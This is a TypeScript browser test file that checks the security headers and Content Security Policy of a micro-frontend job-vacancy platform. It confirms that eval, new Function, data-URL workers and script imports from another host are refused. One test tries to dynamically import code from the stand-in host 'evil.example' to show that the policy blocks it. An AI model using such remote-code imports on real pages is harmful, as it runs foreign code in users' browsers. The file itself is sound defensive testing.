import { ask } from '../gateway.ts';
import { origin } from '../platformUnderTest.ts';
import { expect, test } from '../test.ts';
import { texts } from '../texts.ts';

const tenant = 'oldebroek';

/** Every script of the composition, as it is served. */
async function scripts(): Promise<{ path: string; text: string; headers: Record<string, unknown> }[]> {
  const { body } = await ask(tenant, '/platform/composition');
  const { importMap } = JSON.parse(body) as { importMap: { integrity: Record<string, string> } };
  return Promise.all(
    [...new Set(Object.keys(importMap.integrity).map((path) => path.split('?', 1)[0] ?? ''))].map(async (path) => {
      const answer = await ask(tenant, path, { 'accept-encoding': 'identity' });
      return { path, text: answer.body, headers: answer.headers };
    }),
  );
}

test('security 17: no script of shell or modules makes code of a text, or asks for a public path in a manifest', async () => {
  const all = await scripts();
  expect(all.length).toBeGreaterThan(20);
  const found = all.filter(({ text }) => /FEDERATION_ALLOW_NEW_FUNCTION\s*[:=]\s*(true|!0)/.test(text));
  expect(found.map(({ path }) => path)).toEqual([]);
  // Remotes are ES modules: their entries export, and nothing of them is a script of the old kind.
  const entries = all.filter(({ path }) => path.endsWith('/remoteEntry.js'));
  expect(entries.length).toBeGreaterThan(2);
  expect(entries.filter(({ text }) => !/\bexport\s*\{/.test(text)).map(({ path }) => path)).toEqual([]);
});

test('security 18: every remote file is immutable, of exact type, and source maps are not public', async () => {
  for (const { path, text, headers } of await scripts()) {
    expect([path, headers]).toEqual([
      path,
      expect.objectContaining({
        'cache-control': 'public, max-age=31536000, immutable',
        'content-type': 'text/javascript; charset=utf-8',
        'x-content-type-options': 'nosniff',
        'cross-origin-resource-policy': 'same-origin',
      }),
    ]);
    expect([path, /sourceMappingURL=/.test(text)]).toEqual([path, false]);
    expect([path, (await ask(tenant, `${path}.map`)).status]).toEqual([path, 404]);
  }
});

test('security 14: eval, new Function and a script from elsewhere do not run in a page', async ({
  page,
  complaints,
}) => {
  complaints.expect(/Content Security Policy|TrustedScript|unsafe-eval|evaluating a string|Refused|ERR_/i);
  await page.goto(`${origin(tenant)}/vacancies/search`);
  await expect(page.getByRole('heading', { level: 1, name: texts.nl.heading })).toBeVisible();
  const ran = await page.evaluate(async () => {
    const runs = (make: () => unknown) => {
      try {
        make();
        return true;
      } catch {
        return false;
      }
    };
    // In a task of the page's own: what the tools of a tester run is allowed more.
    const [made, evaluated] = await new Promise<boolean[]>((resolve) =>
      setTimeout(() =>
        resolve([
          runs(() => Reflect.construct(Function, ['return 1'])),
          runs(() => (Reflect.get(globalThis, 'eval') as (text: string) => unknown)('1 + 1')),
        ]),
      ),
    );
    const elsewhere = await import(String('https://evil.example/x.js')).then(
      () => true,
      () => false,
    );
    return { made, evaluated, elsewhere };
  });
  expect(ran).toEqual({ made: false, evaluated: false, elsewhere: false });
});

test('security 14: a worker from elsewhere does not run, and the one of the shell may only speak to its own site', async ({
  page,
  complaints,
}) => {
  complaints.expect(/Content Security Policy|TrustedScriptURL|Refused|Not a script of ours/i);
  const worker = page.waitForEvent('worker');
  await page.goto(`${origin(tenant)}/vacancies/search`);
  const heartbeat = await worker;
  expect(new URL(heartbeat.url()).pathname).toMatch(/^\/releases\/shell\/[^/]+\/heartbeat\.worker\.js$/);
  const { headers } = await ask(tenant, new URL(heartbeat.url()).pathname);
  expect(headers['content-security-policy']).toBe("default-src 'none'; connect-src 'self'");
  const started = await page.evaluate(
    () =>
      new Promise<boolean>((resolve) =>
        setTimeout(() => {
          try {
            new Worker('data:text/javascript,1');
            resolve(true);
          } catch {
            resolve(false);
          }
        }),
      ),
  );
  expect(started).toBe(false);
});
